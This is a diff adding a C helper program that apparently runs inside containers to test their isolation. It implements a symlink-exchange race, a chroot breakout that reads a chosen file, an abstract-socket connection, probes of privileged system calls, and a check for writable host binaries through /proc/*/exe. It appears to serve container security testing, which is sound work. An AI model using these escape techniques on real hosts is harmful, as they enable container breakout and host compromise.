@@ -1,0 +1,167 @@
+/*
+ * The part of an attack that runs inside a container. Its first argument says what it does.
+ *
+ * It is linked statically, because it runs in containers that have no libraries. It ends by itself after a minute.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fs.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/time.h>
+#include <sys/un.h>
+#include <time.h>
+#include <unistd.h>
+
+static void print_file(const char *path) {
+    char buffer[256];
+    int file = open(path, O_RDONLY);
+    ssize_t length = file < 0 ? -1 : read(file, buffer, sizeof buffer);
+    if (length > 0 && write(1, buffer, length) < 0)
+        exit(1);
+}
+
+/* Exchange a directory and a link as fast as possible. */
+static int exchange(const char *one, const char *two) {
+    for (;;)
+        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, two, RENAME_EXCHANGE) && errno != ENOENT)
+            return perror("exchange"), 1;
+}
+
+/* Create directories inside each other. */
+static int nest(long count) {
+    while (count-- > 0)
+        if (mkdir("d", 0755) || chdir("d"))
+            return perror("nest"), 1;
+    return 0;
+}
+
+/* Leave a change of the root directory, as a program can that may call chroot. */
+static int leave_root(const char *path) {
+    int step;
+    mkdir("/jail", 0755);
+    if (chroot("/jail"))
+        return perror("chroot"), 1;
+    for (step = 0; step < 64; step++)
+        if (chdir(".."))
+            break;
+    if (chroot("."))
+        return perror("chroot"), 1;
+    print_file(path);
+    return 0;
+}
+
+/* Read from a socket whose name is not in the file system. */
+static int connect_abstract(const char *name) {
+    struct sockaddr_un address = {.sun_family = AF_UNIX};
+    char buffer[256];
+    int client = socket(AF_UNIX, SOCK_STREAM, 0);
+    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
+    if (connect(client, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)))
+        return perror("connect"), 1;
+    ssize_t length = read(client, buffer, sizeof buffer);
+    return length > 0 && write(1, buffer, length) < 0;
+}
+
+static void report(const char *name, long result) {
+    if (result < 0 && (errno == EPERM || errno == ENOSYS || errno == EACCES))
+        return;
+    printf("allowed: %s (%s)\n", name, result < 0 ? strerror(errno) : "done");
+}
+
+/* Try system calls that only the machine's administrator should be able to use, and print those that are allowed. */
+static int try_system_calls(void) {
+    struct { unsigned bytes; int type; unsigned char handle[8]; } handle = {8, 1, {2}};
+    struct timespec when = {.tv_nsec = -1};
+    report("add_key", syscall(SYS_add_key, "user", "attack", "x", 1, -2));
+    report("keyctl", syscall(SYS_keyctl, 0, -3, 0));
+    report("request_key", syscall(SYS_request_key, "user", "attack", NULL, 0));
+    report("bpf", syscall(SYS_bpf, -1, NULL, 0));
+    report("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
+    report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &handle, O_RDONLY));
+    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, -1));
+    report("init_module", syscall(SYS_init_module, NULL, 0, ""));
+    report("delete_module", syscall(SYS_delete_module, "attack", 0));
+    report("swapon", syscall(SYS_swapon, "/none", 0));
+    report("acct", syscall(SYS_acct, "/none"));
+    report("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, &when));
+    report("reboot", syscall(SYS_reboot, 1, 2, 3, NULL));
+    report("userfaultfd", syscall(SYS_userfaultfd, -1));
+    report("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
+    report("umount2", umount2("/proc", MNT_DETACH));
+    report("pivot_root", syscall(SYS_pivot_root, "/", "/"));
+    report("setns", setns(open("/proc/self/ns/uts", O_RDONLY), 0));
+    report("unshare of mounts", unshare(CLONE_NEWNS));
+    report("unshare of users", unshare(CLONE_NEWUSER));
+    puts("tried");
+    return 0;
+}
+
+/* Keep the programs of other processes open, and see after their end which of them can be written to. */
+static int watch_programs(long seconds) {
+    struct { dev_t device; ino_t inode; int file; } seen[64];
+    struct stat own, shell, info;
+    char path[64], target[256];
+    int count = 0, number;
+    time_t end = time(NULL) + seconds;
+    if (stat("/proc/self/exe", &own) || stat("/bin/busybox", &shell))
+        return perror("stat"), 1;
+    puts("watching");
+    fflush(stdout);
+    while (time(NULL) < end) {
+        DIR *processes = opendir("/proc");
+        struct dirent *entry;
+        while ((entry = readdir(processes))) {
+            snprintf(path, sizeof path, "/proc/%.20s/exe", entry->d_name);
+            int file = entry->d_name[0] >= '1' && entry->d_name[0] <= '9' ? open(path, O_RDONLY) : -1;
+            if (file < 0)
+                continue;
+            fstat(file, &info);
+            for (number = 0; number < count; number++)
+                if (seen[number].inode == info.st_ino && seen[number].device == info.st_dev)
+                    break;
+            if (number < count || count == 64 || info.st_ino == own.st_ino || info.st_ino == shell.st_ino) {
+                close(file);
+                continue;
+            }
+            seen[count].device = info.st_dev, seen[count].inode = info.st_ino, seen[count++].file = file;
+        }
+        closedir(processes);
+    }
+    for (number = 0; number < count; number++) {
+        snprintf(path, sizeof path, "/proc/self/fd/%d", seen[number].file);
+        ssize_t length = readlink(path, target, sizeof target - 1);
+        int file = open(path, O_WRONLY), seals = file < 0 ? 0 : fcntl(file, F_GET_SEALS);
+        if (file >= 0 && (seals < 0 || !(seals & F_SEAL_WRITE)))
+            printf("writable: %.*s\n", (int)length, target);
+    }
+    printf("watched %d\n", count);
+    return 0;
+}
+
+int main(int count, char **arguments) {
+    const char *action = count > 1 ? arguments[1] : "", *first = count > 2 ? arguments[2] : "";
+    alarm(60);
+    if (!strcmp(action, "exchange") && count > 3)
+        return exchange(first, arguments[3]);
+    if (!strcmp(action, "nest"))
+        return nest(atol(first));
+    if (!strcmp(action, "leave-root"))
+        return leave_root(first);
+    if (!strcmp(action, "connect"))
+        return connect_abstract(first);
+    if (!strcmp(action, "system-calls"))
+        return try_system_calls();
+    if (!strcmp(action, "watch-programs"))
+        return watch_programs(atol(first));
+    fprintf(stderr, "unknown action: %s\n", action);
+    return 2;
+}
